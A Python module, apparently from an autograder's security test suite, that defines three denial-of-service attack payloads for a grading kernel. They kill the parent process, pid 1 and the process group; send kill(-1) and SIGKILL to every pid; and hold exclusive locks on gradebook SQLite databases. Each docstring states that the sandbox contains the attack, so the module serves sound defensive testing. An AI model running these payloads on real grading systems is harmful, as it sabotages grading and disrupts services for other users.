"""Class 3, denial: stop the other submissions from being graded, or the run from finishing."""

from __future__ import annotations

from autograder.attacks.core import Targets, attack


@attack(3, depends=("honest", "grades"))
def kill_parent(t: Targets) -> str:
    """Kill the process that started the kernel: on the host that is nbgrader's worker.

    ``os.kill(os.getppid(), SIGKILL)``, then the same to pid 1 and to its own process group's
    leader. Contained: whatever the kernel can reach is inside its own pid namespace; the run
    finishes, every other submission is graded as it deserves, this one gets at most what it
    deserves (a dead kernel is 0).
    """
    return t.fill(
        """
        import signal

        parent = _atk_os.getppid()
        results = []
        for target in dict.fromkeys((parent, 1, _atk_os.getpgid(0))):
            if target <= 0 or target == _atk_os.getpid():
                continue  # 0 would be its own group, itself included
            try:
                _atk_os.kill(target, signal.SIGKILL)
                results.append(f"SIGKILL to {target} sent")
            except OSError as error:
                results.append(f"{target}: {error}")
        _atk_time.sleep(1)
        return f"parent pid {parent}; {results}; the kernel still runs"
        """
    )


@attack(3, depends=("honest", "grades"))
def kill_everyone(t: Targets) -> str:
    """Stop and kill every process it can signal: ``kill(-1)``, every pid in ``/proc`` and more.

    ``os.kill(-1, SIGSTOP)`` and ``os.kill(-1, SIGKILL)``, then SIGKILL to every pid listed in
    ``/proc`` and to every pid up to 65536 (the host's worker, the other kernel, the pipeline
    itself by number), sparing only its own threads so that it can report. Contained: only its
    own namespace is reachable; the run finishes and every other submission is graded as it
    deserves.
    """
    return t.fill(
        """
        import signal

        own = {int(task) for task in _atk_os.listdir("/proc/self/task")} | {_atk_os.getpid()}
        seen = {}
        for pid in _atk_os.listdir("/proc"):
            if pid.isdigit():
                try:
                    with open(f"/proc/{pid}/cmdline", "rb") as handle:
                        seen[int(pid)] = handle.read()[:60].replace(b"\\0", b" ").decode()
                except OSError:
                    pass
        results = []
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                _atk_os.kill(-1, number)
                results.append(f"kill(-1, {number.name}) sent")
            except OSError as error:
                results.append(f"kill(-1, {number.name}): {error}")
        killed = []
        for pid in sorted(set(seen) | set(range(1, 1 << 16))):
            if pid in own:
                continue
            try:
                _atk_os.kill(pid, signal.SIGKILL)
                killed.append(pid)
            except OSError:
                pass
        return f"saw {seen}; {results}; SIGKILL accepted by pids {killed}"
        """
    )


@attack(3, depends=("honest", "grades"))
def lock_sqlite(t: Targets) -> str:
    """Hold an exclusive lock on every SQLite database it can find, then sleep.

    The course gradebook, the run's template, each worker's copy and the default gradebook by
    their real paths, and every SQLite file a search of the visible file system finds, opened
    with ``locking_mode=exclusive`` and ``BEGIN EXCLUSIVE`` and ``flock``-ed, held for a few
    seconds while the other submissions are graded. Contained: the run records every
    submission in the course gradebook and the other students are graded as they deserve.
    """
    return t.fill(
        """
        import fcntl

        candidates = [${course_gradebook}, ${out_gradebook}, ${default_gradebook}]
        candidates += _atk_expand(${host_tmp} + "/grade-*/gradebook.db")
        candidates.append(${home} + "/.ipython/profile_default/history.sqlite")
        skip = ("/proc", "/sys", "/usr", "/dev", _atk_sys.prefix, ${venv}, ${state} + "/python")
        for folder, subfolders, files in _atk_os.walk("/"):
            subfolders[:] = [s for s in subfolders if _atk_os.path.join(folder, s) not in skip]
            for name in files:
                path = _atk_os.path.join(folder, name)
                try:
                    with open(path, "rb") as handle:
                        if handle.read(16) == b"SQLite format 3\\0":
                            candidates.append(path)
                except OSError:
                    pass
        held, locked = [], []
        for path in candidates:
            try:
                connection = _atk_sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=0.5)
                connection.execute("pragma locking_mode = exclusive")
                connection.execute("begin exclusive")
                held.append(connection)
                locked.append(path)
            except Exception:
                pass
            try:
                descriptor = _atk_os.open(path, _atk_os.O_RDONLY)
                fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
                locked.append("flock " + path)
            except OSError:
                pass
        _atk_time.sleep(8)
        return f"{len(candidates)} databases tried; held for 8 s: {locked}"
        """
    )
